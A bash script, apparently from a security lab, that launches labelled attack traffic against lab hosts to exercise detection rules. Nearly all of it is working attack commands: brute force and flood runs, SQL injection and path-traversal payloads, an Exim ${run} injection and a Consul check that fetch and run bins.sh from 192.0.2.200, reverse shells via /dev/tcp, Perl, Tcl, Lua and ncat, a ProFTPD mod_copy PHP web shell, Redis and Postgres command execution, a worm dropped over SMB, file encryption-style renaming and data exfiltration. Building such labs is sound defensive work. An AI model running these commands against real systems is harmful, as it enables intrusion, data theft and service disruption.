# More attacks of the sixth network, made when those of attacks.sh had been mended: other programs, other paces, other services. Sourced by ../armory.sh after attacks.sh.
# shellcheck shell=bash disable=SC2034

ARMORY_PACKAGES+=(corkscrew dirsearch doona python3-certifi python3-chardet sendip shadowsocks-libev tinyproxy wafw00f dhcpstarv lua5.3 lua-socket tcl icmptx python3-paramiko python3-ldap3 yersinia)
# further SECONDS NAME ARGUMENTS...: a part of further.py on the present attacker; kept HOST NAME ARGUMENTS...: a server of it, for as long as the attack takes.
further() { on "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; }
kept() { ns_start "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; sleep 1; }

# --- scans
out nmap_polite port-scan bad $STORE; nmap_polite() { on 100 nmap -n -Pn -sT -T2 --top-ports 100 $STORE; }
out scapy_ack_six port-scan bad2 $WWW6 2001:db8:f0::78; scapy_ack_six() { on_host bad2 5 ip -6 address add 2001:db8:f0::78/64 dev eth0 nodad; scapy 50 "sr(IPv6(src='2001:db8:f0::78',dst='$WWW6')/TCP(dport=(1,120),flags='A'),inter=.1,timeout=2)"; }

# --- passwords
out irc_try brute-force bad2 $APP; irc_try() { sed 's/^Ports=.*/&\nPassword=never-guessed-here/' "$LAB_DIR/irc.conf" >"$LAB_DIR/irc-app.conf"; sandboxed app sh -c 'mkdir -p /run/ngircd && chown irc /run/ngircd; exec ngircd -n -f "$1"' sh "$LAB_DIR/irc-app.conf"; sleep 1; further 70 irc $APP 6667 30 0.5; }
out ldap_one brute-force bad $APP; ldap_one() { further 60 ldap_one $APP 60 0.4; }
out redis_one brute-force bad2 $STORE; redis_one() { further 60 redis_one $STORE 150 0.2; }
out wsman_try brute-force bad $APP; wsman_try() { kept app management 5985; each 40 "curl -s -m 5 -o /dev/null -u administrator:\$p -H 'Content-Type: application/soap+xml' --data '<s:Envelope/>' http://$APP:5985/wsman; sleep 0.5"; }
out registry_slow brute-force bad2 $APP; registry_slow() { kept app management 5000; MOST=100 each 40 "curl -s -m 5 -o /dev/null -u ci:\$p http://$APP:5000/v2/; sleep 2"; }
out cluster_tokens brute-force bad $APP; cluster_tokens() { kept app cluster 6443 "$LAB_DIR/boss"; MOST=90 each 120 "curl -sk -m 5 -o /dev/null -H \"Authorization: Bearer \$p\" https://$APP:6443/api/v1/namespaces; sleep 0.3"; }
out paramiko_slow brute-force bad2 $BASTION; paramiko_slow() { further 130 paramiko_try $BASTION 20 4; }
lan paramiko_lan brute-force rogue $BASTION; paramiko_lan() { further 90 paramiko_try $BASTION 30 1.2; }
out ftp_slow brute-force bad $STORE; ftp_slow() { further 130 ftp_try $STORE 16 4; }
out hydra_pop_one brute-force bad2 $STORE; hydra_pop_one() { (cd "$LAB_DIR" && on 120 hydra -I -t 1 -c 3 -w 5 -l info -P "$(words 25)" pop3://$STORE); }
out hydra_six brute-force bad2 $WWW6 2001:db8:f0::78; hydra_six() { on_host bad2 5 ip -6 address replace 2001:db8:f0::78/64 dev eth0 nodad; (cd "$LAB_DIR" && on 60 hydra -6 -I -t 2 -l admin -P "$(words 80)" "http-get://[$WWW6]/login"); }

# --- floods
lan dhcpstarv dos-flood rogue '' -; dhcpstarv() { on_host gw 60 dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --port=0 --bind-interfaces --interface=br-off --dhcp-range=172.20.9.100,172.20.9.250 --dhcp-leasefile="$LAB_DIR/leases" & sleep 1; on 25 dhcpstarv -i eth0; }
lan flood_mld dos-flood rogue '' -; flood_mld() { on 4 atk6-flood_mld6 eth0; }
lan flood_rs dos-flood rogue '' -; flood_rs() { on 4 atk6-flood_rs6 eth0; }
lan ndp_exhaust dos-flood rogue '' -; ndp_exhaust() { on 5 atk6-ndpexhaust26 eth0 2001:db8:a5::; }
out syn_moderate dos-flood bad $WWW; syn_moderate() { on 40 hping3 -q -S -p 443 -i u6000 -c 4000 $WWW; }
out udp_moderate dos-flood bad2 $APP; udp_moderate() { on 40 hping3 -q --udp -p 9999 -d 300 -i u2500 -c 10000 $APP; }
out nxdomain_flood dos-flood bad $NAMES; nxdomain_flood() { for i in $(seq 4000); do echo "r$RANDOM$i.shop.example A"; done >"$LAB_DIR/random"; on 20 dnsperf -s $NAMES -d "$LAB_DIR/random" -l 12 -Q 400; }
out mqtt_connects dos-flood bad2 $APP; mqtt_connects() { on 12 node -e "const net=require('net'); const b=Buffer.from('101000044d5154540402003c0004666f6f31','hex'); setInterval(()=>{for(let i=0;i<20;i++){const s=net.connect(1883,'$APP',()=>s.write(b)); s.on('error',()=>{}); s.on('data',()=>s.destroy())}},100); setTimeout(()=>process.exit(),10000)"; }
out siege_tls dos-flood bad $WWW; siege_tls() { HOME=$LAB_DIR on 20 siege -q -b -c 30 -t 10S https://$WWW/team.html; }
out ldap_searches dos-flood bad2 $APP; ldap_searches() { on 14 bash -c 'for j in 1 2 3 4 5 6 7 8; do (for i in $(seq 200); do ldapsearch -x -H ldap://$0 -b dc=works,dc=example "(|(cn=*a*)(sn=*b*)(mail=*c*))"; done) & done; wait' $APP; }

# --- slow attacks
out slow_mail slow-dos bad $STORE; slow_mail() { further 70 hold $STORE 25 80 50 7 45 48 4c 4f 20; }
out slow_redis slow-dos bad2 $STORE; slow_redis() { further 70 hold $STORE 6379 120 50 6 2a 31 0d0a 24; }
out slow_mqtt slow-dos bad $APP; slow_mqtt() { further 70 hold $APP 1883 100 50 9 10 20 00; }
out slow_body_six slow-dos bad2 $WWW6 2001:db8:f0::78; slow_body_six() { on_host bad2 5 ip -6 address replace 2001:db8:f0::78/64 dev eth0 nodad; (cd "$LAB_DIR" && on 70 slowhttptest -B -c 100 -r 10 -i 8 -l 50 -u "http://[$WWW6]/login"); }
out slow_thirty slow-dos bad $WWW; slow_thirty() { (cd "$LAB_DIR" && on 80 slowhttptest -H -c 40 -r 4 -i 12 -l 65 -u http://$WWW/); }
out slow_read_tls slow-dos bad2 $WWW; slow_read_tls() { (cd "$LAB_DIR" && on 70 slowhttptest -X -c 120 -r 20 -w 10 -y 20 -n 5 -z 8 -k 3 -l 45 -u https://$WWW/static/catalogue.csv); }

# --- the web
out sqlmap_careful web-attack bad $APP; sqlmap_careful() { HOME=$LAB_DIR on 90 sqlmap --batch --disable-coloring --random-agent --delay 1 --tamper=space2comment,randomcase --technique=BU -u "http://$APP:8080/index.php?q=1"; }
out ffuf_slow web-attack bad2 $WWW; ffuf_slow() { HOME=$LAB_DIR on 60 ffuf -s -p 0.3 -t 1 -w "$(paths 150)" -u http://$WWW/FUZZ.bak; }
out wfuzz_values web-attack bad $APP; wfuzz_values() { printf '%s\n' "'" '"' "' or '1'='1" '1 or 1=1' '../../../etc/passwd' '%00' '<script>alert(1)</script>' '{{7*7}}' '${7*7}' ';id' '|id' '$(id)' '`id`' 'php://filter/convert.base64-encode/resource=index.php' '%2e%2e%2f%2e%2e%2fetc%2fpasswd' >"$LAB_DIR/values"; HOME=$LAB_DIR on 40 wfuzz -c -t 2 -w "$LAB_DIR/values" "http://$APP:8080/index.php?q=FUZZ"; }
out wapiti_modules web-attack bad2 $APP; wapiti_modules() { HOME=$LAB_DIR on 60 wapiti -u "http://$APP:8080/index.php?q=1" -m xss,sql,file,exec -S polite --flush-session -o "$LAB_DIR/w" -f json; }
out dirb_delay web-attack bad $APP; dirb_delay() { on 60 dirb http://$APP:8080/ "$(paths 120)" -S -r -z 400; }
out spider_heads web-attack bad $WWW; spider_heads() { on 90 bash -c 'while read -r w; do for e in .zip .sql .tar.gz; do curl -s -I -m 3 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0" "http://$1/$w$e"; sleep 1; done; done <"$0"' "$(paths 24)" $WWW; }
out json_bodies web-attack bad2 $WWW; json_bodies() { on 60 bash -c 'for b in "{\"user\":{\"\$ne\":null},\"pass\":{\"\$gt\":\"\"}}" "{\"__proto__\":{\"isAdmin\":true}}" "{\"name\":\"{{constructor.constructor(\u0027return process\u0027)()}}\"}" "{\"q\":\"x\u0027 UNION SELECT login,password FROM users-- -\"}" "{\"url\":\"http://169.254.169.254/latest/meta-data/iam/\"}" "{\"file\":\"....//....//etc/passwd\"}"; do curl -s -m 4 -o /dev/null -H "Content-Type: application/json" --data "$b" http://$0/api/login; sleep 2; done' $WWW; }

# --- exploits
out mail_expand exploit bad $STORE; mail_expand() { on 20 swaks --server $STORE --from root@localhost --to 'root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20192.0.2.200:8000\x2Fbins.sh\x22}}@localhost' --body x; }
out ftp_copy exploit bad2 $APP; ftp_copy() { kept app kept_files 2121; on 20 bash -c '{ for l in "SITE CPFR /proc/self/cmdline" "SITE CPTO /tmp/.<?php passthru(\$_GET[0]);?>" "SITE CPFR /tmp/.<?php passthru(\$_GET[0]);?>" "SITE CPTO /var/www/html/x.php"; do echo "$l"; sleep 1; done; } | nc.openbsd -w 3 $0 2121' $APP; }
out redis_lua exploit bad $APP; redis_lua() { on 20 redis-cli -h $APP eval 'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = f(); local p = io.popen("id", "r"); return p:read("*a")' 0; }
out consul_check exploit bad2 $APP; consul_check() { kept app management 8500; on 20 bash -c 'curl -s http://$0:8500/v1/agent/self -o /dev/null; curl -s -X PUT -H "Content-Type: application/json" --data "{\"ID\":\"x\",\"Name\":\"x\",\"Address\":\"127.0.0.1\",\"Port\":80,\"check\":{\"Args\":[\"sh\",\"-c\",\"curl http://192.0.2.200:8000/bins.sh|sh\"],\"interval\":\"10s\",\"Timeout\":\"86400s\"}}" http://$0:8500/v1/agent/service/register' $APP; }
out yarn_app exploit bad $APP; yarn_app() { kept app management 8088; on 20 bash -c 'curl -s -X POST http://$0:8088/ws/v1/cluster/apps/new-application -o /dev/null; curl -s -H "Content-Type: application/json" --data "{\"application-id\":\"application_1700000000000_0007\",\"application-name\":\"get-shell\",\"am-container-spec\":{\"commands\":{\"command\":\"/bin/bash -i >& /dev/tcp/192.0.2.200/4444 0>&1\"}},\"application-type\":\"YARN\"}" http://$0:8088/ws/v1/cluster/apps' $APP; }
out irc_backdoor exploit bad2 $APP; irc_backdoor() { kept app chat 6697; on 15 bash -c '{ sleep 2; echo "AB;perl -MIO -e '"'"'\$p=fork;exit,if(\$p);\$c=new IO::Socket::INET(PeerAddr,\"192.0.2.200:4444\");STDIN->fdopen(\$c,r);system\$_ while<>'"'"'"; sleep 2; } | nc.openbsd -w 4 $0 6697' $APP; }
out psql_libc exploit bad2 $STORE; psql_libc() { PGPASSWORD=never-guessed-here on 20 psql -h $STORE -U postgres -c "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE 'c' STRICT" -c "SELECT system('id > /tmp/o')"; }

# --- malware
lan smb_lock malware desk $APP; smb_lock() { mkdir -p "$LAB_DIR/team"; for i in $(seq 0 59); do { printf 'PK\3\4'; head -c 9000 /dev/urandom | base64; } >"$LAB_DIR/team/doc$i.docx"; done; chmod -R 777 "$LAB_DIR/team"
    printf '[global]\nworkgroup=X\nmap to guest=bad user\nguest account=root\nprivate dir=/run\nlock directory=/run\nstate directory=/run\ncache directory=/run\npid directory=/run\nncalrpc dir=/run/ncalrpc\nlog file=/run/smb.log\nsmb ports=445\n[team]\npath=%s/team\nguest ok=yes\nwritable=yes\n' "$LAB_DIR" >"$LAB_DIR/team.conf"
    sandboxed app smbd -F --no-process-group -s "$LAB_DIR/team.conf"; sleep 2; further 60 lock $APP team 60; }
lan worm_shares malware desk2 $ZONE; worm_shares() { printf 'MZ\220\0\3\0\0\0\4\0\0\0\377\377\0\0\270%043d\200\0\0\0\016\037\272\016\0\264\011\315!\270\001L\315!This program cannot be run in DOS mode.\r\r\n$PE\0\0' 0 | cat - "$(secret 30000)" >"$LAB_DIR/worm.exe"; sed "s#^path=.*#path=$LAB_DIR/loot#;s/^\[team\]/[public]/" "$LAB_DIR/boss-smb.conf" >"$LAB_DIR/p.conf"; sandboxed app smbd -F --no-process-group -s "$LAB_DIR/p.conf"; sleep 2
    (cd "$LAB_DIR" && on 70 bash -c 'for i in $(seq 10 25); do timeout 3 smbclient -N //172.20.5.$i/loot -c "put worm.exe update.exe"; done'); }
lan eth_miner malware desk $BOSS; eth_miner() { kept boss pool 4444; further 60 miner $BOSS 4444 50; }
lan direct_mail malware desk2 $BOSS; direct_mail() { for i in 210 211 212 213 214 215 216 217 218 219; do on_host master 3 ip address replace 192.0.2.$i/24 dev eth0; done; kept master relay 25; further 60 spam 192.0.2.210,192.0.2.211,192.0.2.212,192.0.2.213,192.0.2.214,192.0.2.215,192.0.2.216,192.0.2.217,192.0.2.218,192.0.2.219 80 0.3; }
lan dga_aaaa malware desk 192.0.2.203; dga_aaaa() { further 100 generated 192.0.2.203 60 1 28; }
lan dga_drip malware desk2 192.0.2.203; dga_drip() { further 160 generated 192.0.2.203 40 3.5 1; }
lan lftp_elf malware desk2 $BOSS; lftp_elf() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 20 lftp -e 'set net:timeout 5; get -O /tmp x86 -o /dev/null; quit' ftp://$BOSS/); }
lan archs_wget malware desk $BOSS; archs_wget() { for a in arm arm7 mips mpsl ppc sh4 x86_64; do cp /bin/echo "$LAB_DIR/serve/jaws.$a"; done; chmod a+r "$LAB_DIR"/serve/*; on 40 bash -c 'for a in arm arm7 mips mpsl ppc sh4 x86_64; do wget2 -q -O /dev/null http://192.0.2.200:8000/jaws.$a; done'; }
lan loader_six malware desk2 $BOSS6 2001:db8:a9::32; loader_six() { ns_start boss python3 -m http.server 8006 --bind :: -d "$LAB_DIR/serve"; sleep 1; on 20 curl -s -g -A 'Mozilla/4.0' -o /dev/null "http://[$BOSS6]:8006/update.bin"; }
lan base64_elf malware desk $BOSS; base64_elf() { base64 /bin/ls >"$LAB_DIR/serve/note.txt"; chmod a+r "$LAB_DIR/serve/note.txt"; on 20 bash -c 'curl -s http://192.0.2.200:8000/note.txt | base64 -d >/dev/null'; }

# --- uploads
lan addresses_out exfiltration desk $BOSS; addresses_out() { further 90 in_addresses http://$BOSS 900 0.05 1100; }
lan cookies_out exfiltration desk2 $BOSS; cookies_out() { further 90 in_cookies http://$BOSS 700 0.06 1400; }
lan imap_append exfiltration desk $BOSS '' 400; imap_append() { kept boss mailbox 143; further 60 append $BOSS 20 400000; }
lan pieces_tls exfiltration desk2 $BOSS '' 400; pieces_tls() { further 90 pieces https://$BOSS/dav 30 400000 1; }
lan paramiko_put exfiltration desk $BOSS '' 400; paramiko_put() { further 60 sftp_put $BOSS "$LAB_DIR/user" 15000000; }
lan udp_time exfiltration desk2 $BOSS '' 400; udp_time() { further 60 datagrams $BOSS 123 6000 900 0.005; }
lan curl_limited exfiltration desk $BOSS '' 400; curl_limited() { on 100 curl -s --limit-rate 120k -T "$(secret 9000000)" -o /dev/null http://$BOSS/dav/backup.tgz; }
lan lftp_mirror exfiltration desk2 $BOSS '' 400; lftp_mirror() { mkdir -p "$LAB_DIR/papers"; for i in $(seq 40); do head -c 300000 /dev/urandom >"$LAB_DIR/papers/p$i.pdf"; done; HOME=$LAB_DIR on 60 lftp -e "set net:timeout 5; mirror -R $LAB_DIR/papers up; quit" ftp://$BOSS; }

# --- the link
lan hping_redirect arp-spoof rogue 172.20.9.31 $ROGUE_MAC; hping_redirect() { on 20 hping3 -q --icmp -C 5 -K 1 -a 172.20.9.1 --icmp-gw 172.20.9.66 --icmp-ipdst 192.0.2.5 --icmp-ipsrc 172.20.9.31 -c 8 -i u1500000 172.20.9.31; }
lan neighbour_slow arp-spoof rogue 2001:db8:a9::31 $ROGUE_MAC; neighbour_slow() { scapy_on rogue 70 "[(sendp(Ether(dst='02:00:5e:00:3e:51')/IPv6(src='2001:db8:a9::1',dst='2001:db8:a9::31')/ICMPv6ND_NA(tgt='2001:db8:a9::1',R=1,S=0,O=1)/ICMPv6NDOptDstLLAddr(lladdr='$ROGUE_MAC'),iface='eth0'),time.sleep(10)) for _ in range(6)]"; }
lan arp_slow arp-spoof rogue 172.20.9.31 $ROGUE_MAC; arp_slow() { scapy_on rogue 75 "[(sendp(Ether(dst='02:00:5e:00:3e:51')/ARP(op=2,hwsrc='$ROGUE_MAC',psrc='172.20.9.1',hwdst='02:00:5e:00:3e:51',pdst='172.20.9.31'),iface='eth0'),time.sleep(10)) for _ in range(6)]"; }
lan arpspoof_all arp-spoof rogue 172.20.9.1 $ROGUE_MAC; arpspoof_all() { on 20 arpspoof -i eth0 172.20.9.1; }
lan dhcp_offer arp-spoof rogue '' $ROGUE_MAC; dhcp_offer() { ns_start rogue dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --port=0 --dhcp-range=172.20.9.200,172.20.9.220 --dhcp-option=3,172.20.9.66 --dhcp-option=6,172.20.9.66 --dhcp-leasefile="$LAB_DIR/rogue-leases"; sleep 1; scapy_on desk 15 "[(sendp(Ether(src='02:00:5e:00:3e:51',dst='ff:ff:ff:ff:ff:ff')/IP(src='0.0.0.0',dst='255.255.255.255')/UDP(sport=68,dport=67)/BOOTP(chaddr=bytes.fromhex('02005e003e51'),xid=x,flags=0x8000)/DHCP(options=[('message-type','discover'),'end']),iface='eth0'),time.sleep(2)) for x in range(1,5)]"; sleep 2; }
scapy_on() { on_host "$1" "$2" /usr/bin/python3 -c "from scapy.all import *; import time; conf.verb = 0; $3"; }

# --- tunnels
# iodine_of TYPE OPTIONS...: an iodine tunnel through records of that type, an echo every now and then inside.
iodine_of() { ns_start master iodined -f -c -l 192.0.2.201 -P works-tunnel 10.198.0.1 t.works.example; sleep 1; ns_start "$TOOL_NOW" iodine -f -r -T "$1" "${@:2}" -P works-tunnel 192.0.2.201 t.works.example; sleep 10; on 40 ping -q -i 2 -c 15 10.198.0.1; }
lan iodine_srv dns-tunnel desk 192.0.2.201; iodine_srv() { iodine_of SRV; }
lan iodine_a_idle dns-tunnel desk2 192.0.2.201; iodine_a_idle() { ns_start master iodined -f -c -l 192.0.2.201 -P works-tunnel 10.198.0.1 t.works.example; sleep 1; on 70 iodine -f -r -T A -L 0 -I 2 -P works-tunnel 192.0.2.201 t.works.example; }
lan drip_slow dns-tunnel desk2 192.0.2.203; drip_slow() { further 160 drip 192.0.2.203 50 2.6 40 1 d.leak.example; }
lan drip_aaaa dns-tunnel desk 192.0.2.203; drip_aaaa() { further 120 drip 192.0.2.203 100 0.9 24 28 q.leak.example; }
lan icmptx dns-tunnel desk2 $BOSS; icmptx() { on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=1; ns_start boss icmptx -s 10.97.0.1; ns_start desk2 icmptx -c $BOSS; sleep 2; on_host boss 5 ip address add 10.97.0.1/24 dev tun0; on_host boss 5 ip link set tun0 up mtu 1400; on_host desk2 5 ip address add 10.97.0.2/24 dev tun0; on_host desk2 5 ip link set tun0 up mtu 1400; sleep 1
    on 30 ssh "${SSH_OPTIONS[@]}" -i "$LAB_DIR/user" root@10.97.0.1 'for i in 1 2 3 4 5; do ls -l /usr/bin | head -20; sleep 3; done'; on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=0; }

# --- masters
lan echo_beacon c2-beacon desk $BOSS; echo_beacon() { further 160 icmp_beacon $BOSS 20 6; }
lan urllib_poll c2-beacon desk2 $BOSS; urllib_poll() { further 160 poll_http http://$BOSS 24 5 0.3; }
lan udp_poll c2-beacon desk $BOSS; udp_poll() { ns_start boss socat -u UDP-RECV:7443 /dev/null; further 160 poll_udp $BOSS 7443 25 5 0.35; }
lan tls_poll c2-beacon desk2 $BOSS; tls_poll() { further 170 poll_tls $BOSS 443 24 6 0.3; }
lan tcp_beat c2-beacon desk $BOSS; tcp_beat() { ns_start boss socat TCP-LISTEN:6606,fork,reuseaddr EXEC:cat; sleep 1; further 160 beat_tcp $BOSS 6606 18 7 0.2; }
lan redis_poll c2-beacon desk2 $BOSS; redis_poll() { on 130 bash -c 'for i in $(seq 20); do redis-cli -h 192.0.2.200 lpop tasks:7f3a; sleep 5; done'; }
lan fetch_js c2-beacon desk $BOSS; fetch_js() { NODE_TLS_REJECT_UNAUTHORIZED=0 on 170 node -e 'const h=require("https");let i=0;(function f(){if(i++>22)return;const r=h.request({host:"192.0.2.200",path:"/api/v1/agent/7f3a/next",method:"POST"},x=>x.resume());r.on("error",()=>{});r.end(JSON.stringify({id:"7f3a",t:i}));setTimeout(f,5000+Math.random()*3000)})()'; }
# typing PORT PAUSE [KEY]: orders by the boss.
typing() { kept boss orders "$@"; }
lan tcl_shell c2-beacon desk $BOSS; tcl_shell() { typing 4711 5; on 60 bash -c "echo 'set s [socket 192.0.2.200 4711]; while 1 { if {[gets \$s c] < 0} exit; catch {exec sh -c \$c} o; puts \$s \$o; flush \$s }' | tclsh"; }
lan lua_shell c2-beacon desk2 $BOSS; lua_shell() { typing 4712 4; on 60 lua5.3 -e 'local t=require("socket").tcp();t:connect("192.0.2.200",4712);while true do local c=t:receive();if not c then break end;local f=io.popen(c,"r");t:send(f:read("*a"));f:close() end'; }
lan udp_bash c2-beacon desk $BOSS; udp_bash() { N=5 hears 'nc.openbsd -n -u -l -p 4713' bash -c 'sh -i >& /dev/udp/192.0.2.200/4713 0>&1'; }
lan tls_idle c2-beacon desk2 $BOSS; tls_idle() { typing 8443 14 "$LAB_DIR/boss"; further 140 tls_shell $BOSS 8443; }
lan pty_slow c2-beacon desk $BOSS; pty_slow() { typing 4714 12; on 130 socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:$BOSS:4714; }
lan ncat_six c2-beacon desk2 $BOSS6 2001:db8:a9::32; ncat_six() { hears "ncat -6 -n --ssl -l 4715" ncat -6 --ssl -e /bin/sh $BOSS6 4715; }

# --- Recorded when the rules for those above were written, to see how far they carry.
lan redirect_six_slow arp-spoof rogue 2001:db8:a9::31 $ROGUE_MAC; redirect_six_slow() { scapy_on rogue 40 "[(sendp(Ether(dst='02:00:5e:00:3e:51')/IPv6(src='fe80::5eff:fe00:3e01',dst='2001:db8:a9::31',hlim=255)/ICMPv6ND_Redirect(tgt='fe80::5eff:fe00:3e4d',dst='2001:db8:f0::5')/ICMPv6NDOptDstLLAddr(lladdr='$ROGUE_MAC'),iface='eth0'),time.sleep(4)) for _ in range(6)]"; }
lan nping_arp arp-spoof rogue 172.20.9.32 $ROGUE_MAC; nping_arp() { on 80 nping -q --arp --arp-type ARP-reply --source-mac $ROGUE_MAC --dest-mac 02:00:5e:00:3e:52 --arp-sender-mac $ROGUE_MAC --arp-sender-ip 172.20.9.1 --arp-target-mac 02:00:5e:00:3e:52 --arp-target-ip 172.20.9.32 --delay 7s -c 9 172.20.9.32; }
lan dhcp_discovered arp-spoof rogue '' $ROGUE_MAC; dhcp_discovered() { ns_start rogue dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --port=0 --dhcp-authoritative --no-ping --dhcp-range=172.20.9.180,172.20.9.190 --dhcp-leasefile="$LAB_DIR/rogue-leases2"; sleep 6; for i in 1 2 3; do on_host desk 12 nmap -n --script broadcast-dhcp-discover -e eth0; done; }
lan ping_all dos-flood rogue ff02::1 -; ping_all() { on 8 ping -6 -q -f -s 400 -I eth0 ff02::1; }
lan smb_rename malware desk2 $APP; smb_rename() { mkdir -p "$LAB_DIR/shelf"; for i in $(seq 40); do head -c 40000 /dev/urandom >"$LAB_DIR/shelf/f$i.xlsx"; done; chmod -R 777 "$LAB_DIR/shelf"; sed "s#^path=.*#path=$LAB_DIR/shelf#;s/^\[loot\]/[shelf]/;s/^guest account=.*/guest account=root/" "$LAB_DIR/boss-smb.conf" | sed '/^\[serve\]/,$d' >"$LAB_DIR/shelf.conf"; sandboxed app smbd -F --no-process-group -s "$LAB_DIR/shelf.conf"; sleep 2
    (cd "$LAB_DIR" && for i in $(seq 40); do echo "get f$i.xlsx got; put got f$i.xlsx; rename f$i.xlsx f$i.xlsx.crypt3d;"; done | tr -d '\n' >"$LAB_DIR/shelf.cmd"; on 60 smbclient -N //$APP/shelf -c "$(cat "$LAB_DIR/shelf.cmd")"); }
lan swaks_direct malware desk $BOSS; swaks_direct() { for i in 220 221 222 223 224 225 226 227 228; do on_host master 3 ip address replace 192.0.2.$i/24 dev eth0; done; kept master relay 25; on 90 bash -c 'for i in $(seq 36); do swaks --server 192.0.2.$((220 + i % 9)) --from "bill$i@shop.example" --to "user$i@mail$((i % 9)).example" --header "Subject: Invoice $i" --body "see http://192.0.2.200/i" >/dev/null; sleep 0.5; done'; }
lan curl_header exfiltration desk2 $BOSS; curl_header() { on 90 bash -c 'for i in $(seq 350); do curl -s -I -o /dev/null -H "X-Trace: $(head -c 1100 /dev/urandom | base64 -w0)" http://192.0.2.200/; done'; }
lan ftplib_elf malware desk $BOSS; ftplib_elf() { cp /bin/cat "$LAB_DIR/drop/photo.jpg"; chmod 644 "$LAB_DIR/drop/photo.jpg"; on 20 /usr/bin/python3 -c "import ftplib; f = ftplib.FTP('$BOSS'); f.login(); f.retrbinary('RETR photo.jpg', lambda b: None); f.quit()"; }
lan curl_smb malware desk2 $BOSS; curl_smb() { on 20 curl -s -m 15 -u guest: -o "$LAB_DIR/got" smb://$BOSS/serve/x86; (cd "$LAB_DIR" && on 20 smbclient -N //$BOSS/serve -c 'get x86 got2'); }
out mausezahn_refused dos-flood bad2 $APP; mausezahn_refused() { on 30 mausezahn eth0 -q -a 02:00:5e:00:3c:2e -b 02:00:5e:00:3c:01 -A 192.0.2.78 -B $APP -c 1 -d 3m -t udp 'sp=20000-24000,dp=7777' -p 200; }
out redis_benchmark dos-flood bad $APP; redis_benchmark() { on 25 redis-benchmark -h $APP -k 0 -c 20 -n 6000 -t set -q; }
lan nping_beacon c2-beacon desk2 $BOSS; nping_beacon() { on 120 bash -c 'for i in $(seq 20); do nping -q -N --icmp --data "$(head -c 40 /dev/urandom | xxd -p -c 40)" -c 1 192.0.2.200; sleep 5; done'; }
out redis_popen exploit bad $APP; redis_popen() { on 20 bash -c 'printf "EVAL \"local f=package.loadlib(%s/usr/lib/x86_64-linux-gnu/liblua5.1.so.0%s,%sluaopen_os%s); return f().execute(%sid%s)\" 0\r\n" "$2" "$2" "$2" "$2" "$2" "$2" | nc.openbsd -w 3 $1 6379' _ $APP "'"; }

# --- programs of Debian that nothing above uses: fuzzers, recognisers of filters, tunnels inside proxies
out dirsearch_default web-attack bad $APP; dirsearch_default() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 /usr/bin/env -i HOME=$LAB_DIR PATH=/usr/sbin:/usr/bin:/sbin:/bin dirsearch -u http://$APP:8080/ -q -t 10); }
out dirsearch_tls web-attack bad2 $WWW; dirsearch_tls() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 /usr/bin/env -i HOME=$LAB_DIR PATH=/usr/sbin:/usr/bin:/sbin:/bin dirsearch -u https://$WWW/ -q -t 5); }
out wafw00f_all web-attack bad $APP; wafw00f_all() { HOME=$LAB_DIR on 60 wafw00f -a http://$APP:8080/index.php; }
out wafw00f_www web-attack bad2 $WWW; wafw00f_www() { HOME=$LAB_DIR on 60 wafw00f http://$WWW/; }
out doona_http exploit bad2 $WWW; doona_http() { on 40 doona -m HTTP -t $WWW -o 0 -M 120; }
out doona_smtp exploit bad $STORE; doona_smtp() { on 40 doona -m SMTP -t $STORE -u info@works.example -o 0 -M 80; }
lan shadow_beacon c2-beacon desk $BOSS; shadow_beacon() { ns_start boss ss-server -s 0.0.0.0 -p 8388 -k sesame -m chacha20-ietf-poly1305; ns_start desk ss-local -s 192.0.2.200 -p 8388 -l 1080 -k sesame -m chacha20-ietf-poly1305; sleep 2; on 100 bash -c 'for i in $(seq 24); do curl -s -o /dev/null --socks5 127.0.0.1:1080 http://127.0.0.1/task; sleep 4; done'; }
out sendip_syn port-scan bad2 $WWW; sendip_syn() { on 40 bash -c 'for p in $(seq 1 4 400); do sendip -p ipv4 -is 192.0.2.78 -p tcp -ts 40000 -td $p -tfs 1 '$WWW'; done'; }
lan corkscrew_back c2-beacon desk $BOSS; corkscrew_back() { printf 'Port 3128\nTimeout 600\nListen 0.0.0.0\n' >"$LAB_DIR/tp.conf"; ns_start boss tinyproxy -d -c "$LAB_DIR/tp.conf"; sleep 1; on 60 ssh -R 2222:127.0.0.1:22 -o ProxyCommand="corkscrew 192.0.2.200 3128 127.0.0.1 22" "${SSH_OPTIONS[@]}" -i "$LAB_DIR/user" root@127.0.0.1 'for i in 1 2 3 4 5 6 7 8; do ls -l /usr/bin | head -30; sleep 5; done'; }
out doona_dav exploit bad $WWW; doona_dav() { on 40 doona -m HTTP_WEBDAV -t $WWW -o 0 -M 80; }
